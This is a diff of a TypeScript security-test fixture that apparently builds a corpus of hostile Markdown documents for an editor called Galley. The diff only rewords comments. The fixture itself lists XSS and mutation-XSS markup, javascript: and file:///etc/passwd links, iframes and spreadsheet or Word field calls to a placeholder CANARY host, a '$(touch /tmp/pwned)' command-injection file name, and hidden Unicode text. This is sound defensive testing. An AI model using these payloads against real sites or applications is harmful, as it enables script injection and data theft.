@@ -1,12 +1,11 @@
 import { deeper, deeperDiagrams, deeperMaths } from "./deeper";
 
 /**
- * Documents that try to get out: each payload class of the goals (a–o), in every place of a document that it fits. Where
- * something would be fetched the address is `CANARY`, which a test replaces by one that it listens to; where something
- * would run it sets `window.__pwn`. Later rooms show the same documents in their own ways.
+ * Documents that try to escape: each payload class of the goals (a–o) in every context of a document that it fits. An address that would be fetched
+ * is `CANARY`, which a test replaces with an address that it listens on. A script that would run sets `window.__pwn`.
  */
 export type HostileDocument = {
-  /** The letter of its class. */
+  /** The letter of its payload class. */
   kind: string;
   name: string;
   text: string;
@@ -14,11 +13,11 @@ export type HostileDocument = {
 
 const PWN = "window.__pwn=1";
 
-/** Every way of a table, numbered. */
+/** One numbered document for each row. */
 const table = (kind: string, rows: readonly string[], wrap: (row: string) => string = (row) => row) =>
   rows.map((row, index): HostileDocument => ({ kind, name: `${kind}${index + 1}`, text: wrap(row) }));
 
-/** Markup that runs a handler or a script where nobody sanitises. */
+/** Markup that runs a handler or a script if it is not sanitised. */
 const SCRIPTS = [
   `<script>${PWN}</script>`,
   `<script src="http://CANARY/x.js"></script>`,
@@ -46,7 +45,7 @@ const SCRIPTS = [
   `<img src="x" ONERROR="&#119;indow.__pwn=1">`,
 ];
 
-/** What changes its meaning when it is parsed a second time. */
+/** Markup that changes its meaning when it is parsed a second time. */
 const MUTATIONS = [
   `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
   `<template><img src=x onerror=${PWN}></template>`,
@@ -71,7 +70,7 @@ const MUTATIONS = [
   `<p id="</p><img src=x onerror=${PWN}>">x</p>`,
 ];
 
-/** Addresses that run, read this computer or lead into Galley itself. */
+/** Addresses that run code, read local files, or lead into Galley itself. */
 const ADDRESSES = [
   "javascript:window.__pwn=1",
   "JaVaScRiPt:window.__pwn=1",
@@ -100,7 +99,7 @@ const ADDRESSES = [
   "about:blank",
 ];
 
-/** Elements that load, embed, send or take the page somewhere else. */
+/** Elements that load, embed, send, or navigate away. */
 const EMBEDS = [
   `<iframe src="http://CANARY/"></iframe>`,
   `<iframe src="galley://app/index.html"></iframe>`,
@@ -180,7 +179,7 @@ const SHADOWS = [
   `<p is="x-y" slot=x part=y>x</p>`,
 ];
 
-/** Every place of a document that takes words. */
+/** Every context in a document that can hold the payload. */
 const PLACES: readonly ((payload: string) => string)[] = [
   (payload) => `\`\`\`${payload}\ncode\n\`\`\`\n`,
   (payload) => `\`\`\`js ${payload}\ncode\n\`\`\`\n`,
@@ -263,7 +262,7 @@ const DIAGRAMS = [
   "__proto__",
 ];
 
-/** What pasted, dropped or converted HTML brings along; as it stands in a document. */
+/** Payloads from pasted, dropped or converted HTML, as they appear in a document. */
 const PASTED = [
   `<html xmlns:o="urn:schemas-microsoft-com:office:office"><!--[if gte mso 9]><xml><o:x>${PWN}</o:x></xml><![endif]-->x</html>`,
   `<!--StartFragment--><a href="javascript:${PWN}">x</a><!--EndFragment-->`,
@@ -275,7 +274,7 @@ const PASTED = [
   `<span style="mso-element:field-begin"></span>INCLUDEPICTURE "http://CANARY/x.png" \\d`,
 ];
 
-/** Names of files, headings and people, as interfaces show them. */
+/** Names of files, headings and authors, as the interface shows them. */
 const NAMES = [
   `<img src=x onerror=${PWN}>.md`,
   `"><script>${PWN}</script>`,
@@ -291,7 +290,7 @@ const NAMES = [
   "$(touch /tmp/pwned)",
 ];
 
-/** What waits for paper or another program. */
+/** Payloads that target print and other programs. */
 const EXPORTED = [
   `<a href="javascript:${PWN}">x</a> <a href="file:///etc/passwd">y</a> <a href="other.md">z</a>`,
   `<p>=HYPERLINK("http://CANARY/","x")</p>`,
@@ -303,7 +302,7 @@ const EXPORTED = [
   `<p>]]&gt;&lt;/w:t&gt;&lt;w:instrText&gt;INCLUDEPICTURE http://CANARY/&lt;/w:instrText&gt;</p>`,
 ];
 
-/** Words that only machines read: hidden from people, or in an order that they do not see. */
+/** Text that only machines read: hidden from the user, or shown in a misleading order. */
 const HIDDEN = [
   "visible\u200b\u200chidden\u200d\ufeff",
   "\u202Ereversed\u202C and \u2066isolated\u2069",
@@ -318,7 +317,7 @@ const HIDDEN = [
 
 const fence = (name: string) => (source: string) => `\`\`\`\`${name}\n${source}\n\`\`\`\`\n`;
 
-/** Every document of the corpus: more than 450. */
+/** All documents of the corpus: more than 450. */
 export const hostileDocuments: readonly HostileDocument[] = [
   ...table("a", SCRIPTS),
   ...table("a-inline", SCRIPTS, (markup) => `words **before** ${markup} and *after*\n`),
@@ -360,11 +359,11 @@ export const hostileDocuments: readonly HostileDocument[] = [
   ...table("directive", deeperDiagrams, fence("mermaid")),
 ];
 
-/** Ends what a document may have left open, so that the next one in the same file begins anew. */
+/** Closes everything that a document may have left open, so that the next one in the same file starts clean. */
 const END =
   "\n\n-->\n\n]]>\n\n</textarea></title></style></script></template></noscript></xmp></svg></math></table></div>\n\n";
 
-/** Several documents as one, each after all that could still be open. `host` is what is listened to. */
+/** Joins several documents into one, closing open constructs after each. `host` replaces `CANARY`. */
 export function together(documents: readonly HostileDocument[], host: string): string {
   return documents.map(({ name, text }) => `## ${name}\n\n${text.replaceAll("CANARY", host)}${END}`).join("");
 }
